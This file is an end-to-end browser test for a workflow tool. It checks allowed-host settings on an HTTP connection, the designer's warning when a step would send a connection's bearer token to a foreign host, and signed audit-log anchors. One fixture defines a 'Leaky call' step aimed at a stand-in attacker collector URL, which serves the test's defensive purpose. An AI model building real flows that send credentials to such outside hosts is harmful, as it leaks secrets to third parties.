// Credentials stay with their connection, and the audit log can be anchored outside Weft: an admin lists an
// allowed host on a new HTTP connection (a bad entry is refused, naming it); the designer flags a step that
// would send that connection's token to another host, on the URL field; the Audit page exports a signed
// anchor and verifies the log against it.
import { readFileSync } from "node:fs";
import { expect, test } from "./test";
import { signIn, screenshots } from "./helpers";
import { trpcMutation } from "./triage-helpers";

const shot = screenshots("outbound");

test.setTimeout(400_000); // a busy shared machine: the production server answers slowly

test("allowed hosts on a connection, the designer's credential problem, and a signed audit anchor", async ({
  page,
}) => {
  await signIn(page, "admin");
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Connections" }).click();
  await page.getByRole("button", { name: "New connection" }).click();
  const dialog = page.getByRole("dialog", { name: "New connection" });
  await dialog.getByLabel("Connector").selectOption({ label: "HTTP / REST" });
  await dialog.getByLabel("Name", { exact: true }).fill("Partner API");
  await dialog.getByLabel("Base URL", { exact: true }).fill("https://api.partner.example/v2");
  await dialog.getByLabel("Type", { exact: true }).selectOption("bearer");
  await dialog.getByLabel("Token", { exact: true }).fill("tok-partner-secret");
  const hosts = dialog.getByRole("textbox", { name: "Allowed hosts" });
  await hosts.fill("files.partner.example\nbad_host!");
  await dialog.getByRole("button", { name: "Create connection" }).click();
  await expect(dialog).toContainText("bad_host! — Use a host name");
  await shot(page, "01-allowed-hosts-refused");
  await hosts.fill("files.partner.example\n*.cdn.partner.example");
  await dialog.getByRole("button", { name: "Create connection" }).click();
  await expect(dialog).toBeHidden();
  const row = page.getByRole("listitem", { name: "Connection Partner API" });
  await expect(row).toContainText("files.partner.example, *.cdn.partner.example");
  await shot(page, "02-allowed-hosts");

  // A flow whose HTTP step names another host as a literal URL: an error on that field, before any run.
  const key = `leaky-${Date.now().toString(36)}`;
  for (const [proc, input] of [
    ["flows.create", { key, name: "Leaky call", domain: "reporting", ownerTeamKey: "platform" }],
    [
      "flows.saveDraft",
      {
        flowKey: key,
        baseRevision: 1,
        draft: {
          dsl: "weft/1",
          key,
          version: "0.1.0",
          name: "Leaky call",
          domain: "reporting",
          owner: "platform",
          classification: "internal",
          trigger: { type: "manual" },
          start: "fetch",
          steps: [
            {
              id: "fetch",
              type: "call",
              connector: "http",
              operation: "request",
              connection: "http-partner-api",
              input: { url: '"https://collector.evil.test/collect"' },
            },
          ],
        },
      },
    ],
  ] as const) {
    const r = await trpcMutation(page.request, proc, input);
    expect(r.error, proc).toBeUndefined();
  }
  await page.goto(`/flows/${key}`);
  await expect(page.getByTestId("designer")).toBeVisible({ timeout: 60_000 });
  const problem = page.getByTestId("problem").filter({ hasText: "https://collector.evil.test is not one of them" });
  await expect(problem).toBeVisible();
  await expect(problem).toContainText("https://api.partner.example, files.partner.example, *.cdn.partner.example");
  await problem.click();
  const url = page.getByRole("textbox", { name: "Input url" });
  await expect(url).toBeFocused();
  await shot(page, "03-designer-credential-problem");
  // A path under the connection's base URL is fine.
  await url.fill('"/customers"');
  await expect(problem).toHaveCount(0);

  // The Audit page: export a signed anchor (downloaded), then verify the log against it.
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Audit" }).click();
  const download = page.waitForEvent("download");
  await page.getByRole("button", { name: "Export signed anchor" }).click();
  const file = await (await download).path();
  const anchor = JSON.parse(readFileSync(file, "utf8")) as {
    format: string;
    rows: number;
    seq: string;
    signature: string;
  };
  expect(anchor).toMatchObject({ format: "weft-audit-anchor/1", signature: expect.any(String) });
  await expect(page.getByRole("main")).toContainText(`Anchor saved: ${anchor.rows} rows up to #${anchor.seq}`);
  await page.locator('input[type="file"]').setInputFiles(file);
  await expect(page.getByRole("main").getByRole("status").first()).toContainText("Chain intact");
  await expect(page.getByRole("row").filter({ hasText: "audit.anchor_exported" }).first()).toContainText(
    "admin@weft.local",
  );
  await shot(page, "04-audit-anchor");
});
